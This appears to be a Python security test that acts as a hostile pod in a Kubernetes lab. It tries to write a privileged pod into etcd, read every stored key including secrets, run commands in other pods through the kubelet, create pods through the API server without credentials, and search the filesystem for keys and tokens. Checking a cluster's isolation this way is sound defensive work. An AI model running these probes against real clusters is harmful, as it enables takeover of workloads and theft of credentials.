"""What a hostile program in an ordinary pod tries against its lab; it runs in a pod, with Python's library alone.

    python3 - JSON < hostile_pod.py

The argument has `addresses` (the nodes', and gateways of the pod networks), `victim` (a pod that runs, as
NAMESPACE/NAME), `evil` (a pod object with all rights), and `stranger` (certificate and key that the lab has not made).
Prints a JSON object: what each attempt got. A status below 300, or an answer of etcd, is a success of the attacker.
"""

from __future__ import annotations

import base64
import http.client
import json
import os
import re
import socket
import ssl
import stat
import sys
from pathlib import Path

TIMEOUT_S = 3.0
REFUSED = "refused"
UNREACHABLE = "unreachable"
ETCD, PEERS, API, KUBELET = 2379, 2380, 6443, 10250
CLIENT = re.compile("@[0-9a-f]{5}")
"""The name that the kernel gives a socket that connects (unix(7), autobind)."""
CLOSED = {
    10248: "kubelet's health", 10255: "kubelet, read-only", 10257: "controller manager", 10259: "scheduler",
    10249: "proxy", 10251: "scheduler, plain", 10252: "controller manager, plain", 1338: "containerd's metrics",
    2375: "Docker", 4001: "etcd, old", 8080: "API server, plain", 5000: "registry",
}  # fmt: skip


def contexts(stranger: str) -> dict[str, ssl.SSLContext | None]:
    """Return the ways to speak: plain, by TLS without a certificate, and with one of somebody else."""
    anonymous, other = (ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT) for _ in range(2))
    for each in (anonymous, other):
        each.check_hostname, each.verify_mode = False, ssl.CERT_NONE
    path = Path("/tmp/stranger.pem")
    path.write_text(stranger)
    other.load_cert_chain(path)
    return {"plain": None, "TLS": anonymous, "TLS with a stranger's certificate": other}


def ask(
    address: str, port: int, method: str, path: str, body: str = "", *, tls: ssl.SSLContext | None, token: str = ""
) -> str:
    """Make a request and return the status and the beginning of the answer, or how it failed."""
    headers = {"Content-Type": "application/json", **({"Authorization": f"Bearer {token}"} if token else {})}
    if tls is None:
        connection = http.client.HTTPConnection(address, port, timeout=TIMEOUT_S)
    else:
        connection = http.client.HTTPSConnection(address, port, timeout=TIMEOUT_S, context=tls)
    try:
        connection.request(method, path, body or None, headers)
        answer = connection.getresponse()
        return f"{answer.status} {answer.read(200).decode(errors='replace')}"
    except (ConnectionRefusedError, TimeoutError) as error:
        return f"{UNREACHABLE}: {error}"
    except (OSError, http.client.HTTPException) as error:
        return f"{UNREACHABLE if getattr(error, 'errno', 0) in (101, 113) else REFUSED}: {error!r}"
    finally:
        connection.close()


def grpc(address: str, tls: ssl.SSLContext | None) -> str:
    """Begin HTTP/2 with etcd, as gRPC does; a server that goes on sends its settings."""
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"
    try:
        with socket.create_connection((address, ETCD), timeout=TIMEOUT_S) as plain:
            if tls is not None:
                tls.set_alpn_protocols(["h2"])  # only for this connection
            with plain if tls is None else tls.wrap_socket(plain) as connection:
                connection.sendall(preface)
                answer = connection.recv(64)
                return f"200 {answer!r}" if answer[3:4] == b"\x04" else f"{REFUSED}: {answer!r}"
    except (ConnectionRefusedError, TimeoutError) as error:
        return f"{UNREACHABLE}: {error}"
    except OSError as error:
        return f"{UNREACHABLE if error.errno in (101, 113) else REFUSED}: {error!r}"
    finally:
        if tls is not None:
            tls.set_alpn_protocols(["http/1.1"])


def put(key: str, value: str) -> str:
    """Return the body by which etcd's gateway stores a value."""
    return json.dumps({n: base64.b64encode(t.encode()).decode() for n, t in (("key", key), ("value", value))})


def store(address: str, evil: str, name: str, tls: ssl.SSLContext | None) -> dict[str, str]:
    """Try etcd: a pod with all rights, secrets, flannel's subnets, API 2, its peers' port, gRPC."""
    lease = json.dumps({"PublicIP": "10.214.0.66", "BackendType": "host-gw"})
    secrets = json.dumps({n: base64.b64encode(t).decode() for n, t in (("key", b"/"), ("range_end", b"\0"))})
    found = {
        "write a pod": ask(address, ETCD, "POST", "/v3/kv/put", put("/registry/pods/default/evil", evil), tls=tls),
        "read all": ask(address, ETCD, "POST", "/v3/kv/range", secrets, tls=tls),
        "flannel's subnets": ask(
            address, ETCD, "POST", "/v3/kv/put", put("/tare/pods/subnets/10.245.9.0-24", lease), tls=tls
        ),
        "flannel's configuration": ask(address, ETCD, "POST", "/v3/kv/put", put("/tare/pods/config", "{}"), tls=tls),
        "API 2": ask(address, ETCD, "GET", "/v2/keys/?recursive=true", tls=tls),
        "version": ask(address, ETCD, "GET", "/version", tls=tls),
        "metrics": ask(address, ETCD, "GET", "/metrics", tls=tls),
        "peers' members": ask(address, PEERS, "GET", "/members", tls=tls),
        "peers' raft": ask(address, PEERS, "POST", "/raft", "x", tls=tls),
        "gRPC": grpc(address, tls),
    }
    return {f"etcd, {what}, {name}": said for what, said in found.items()}


def kubelet(address: str, victim: str, name: str, tls: ssl.SSLContext | None) -> dict[str, str]:
    """Try a kubelet: run commands in another pod, read logs, list pods, with and without a token."""
    run = f"/run/{victim}/ranks?cmd=id"
    execute = f"/exec/{victim}/ranks?command=id&output=1"
    return {
        f"kubelet, {method} {path}, {name}{', a token' if token else ''}": ask(
            address, KUBELET, method, path, tls=tls, token=token
        )
        for method, path in (
            ("POST", run), ("POST", execute), ("GET", "/pods"), ("GET", "/configz"), ("GET", "/metrics"),
            ("GET", "/logs/"), ("GET", "/debug/pprof/heap"), ("POST", "/checkpoint/" + victim + "/ranks"),
        )
        for token in ("", "0" * 32)
    }  # fmt: skip


def server(address: str, evil: str, name: str, tls: ssl.SSLContext | None) -> dict[str, str]:
    """Try the API server as nobody, and with a token that it does not know."""
    asked = [
        ("POST", "/api/v1/namespaces/default/pods", evil), ("GET", "/api/v1/secrets", ""), ("GET", "/api/v1/nodes", ""),
        ("GET", "/version", ""), ("GET", "/readyz", ""), ("GET", "/metrics", ""), ("GET", "/openapi/v2", ""),
        ("POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", "{}"),
        ("GET", "/api/v1/nodes/n0/proxy/pods", ""),
    ]  # fmt: skip
    return {
        f"API, {method} {path}, {name}{', a token' if token else ''}": ask(
            address, API, method, path, body, tls=tls, token=token
        )
        for method, path, body in asked
        for token in ("", "0" * 32)
    }


def files() -> dict[str, str]:
    """Look for sockets of daemons, keys, kubeconfigs and tokens among the files that this container sees."""
    found = {}
    for folder, folders, names in os.walk("/"):
        if folder == "/":
            folders[:] = [each for each in folders if each not in ("proc", "sys")]
        for name in names:
            path = os.path.join(folder, name)
            try:
                mode = os.lstat(path).st_mode
            except OSError:
                continue
            if stat.S_ISSOCK(mode) or stat.S_ISBLK(mode):
                found[path] = "200 a socket, or a disk"
            elif name in ("kubeconfig", "tls.key", "accounts.key", "tokens.csv", "token") and folder[:5] != "/usr/":
                found[path] = "200 a key"
    return found


def listening() -> list[str]:
    """Return where TCP servers listen in this network namespace, and the abstract sockets of daemons in it."""
    found = []
    for name, family in (("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)):
        for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]:
            _, local, _, state = line.split()[:4]
            if state == "0A":
                address, port = local.split(":")
                packed = b"".join(bytes.fromhex(address[at : at + 8])[::-1] for at in range(0, len(address), 8))
                found.append(f"{socket.inet_ntop(family, packed)} {int(port, 16)}")
    words = [line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines()[1:]]
    return sorted(found) + [word for word in words if word[0] == "@" and not CLIENT.fullmatch(word)]


def reaches(address: str, port: int) -> bool:
    """Return whether a server is reached at all."""
    with socket.socket() as one:
        one.settimeout(TIMEOUT_S)
        return one.connect_ex((address, port)) == 0


def main() -> None:
    """Try everything, and print what it got."""
    told = json.loads(sys.argv[1])
    evil, found, reached = json.dumps(told["evil"]), files(), []
    for address in (*told["addresses"], "127.0.0.1"):
        found |= {
            f"{address}: {what}": f"200 listens on {port}" for port, what in CLOSED.items() if reaches(address, port)
        }
        ports = [port for port in (ETCD, PEERS, API, KUBELET) if reaches(address, port)]
        reached += [f"{address} {port}" for port in ports]
        for name, tls in contexts(told["stranger"]).items():
            tried = {
                **(store(address, evil, name, tls) if ETCD in ports or PEERS in ports else {}),
                **(kubelet(address, told["victim"], name, tls) if KUBELET in ports else {}),
                **(server(address, evil, name, tls) if API in ports else {}),
            }
            found |= {f"{address}: {what}": said for what, said in tried.items()}
    print(json.dumps({"attempts": found, "reached": reached, "listening": listening()}))


if __name__ == "__main__":
    main()
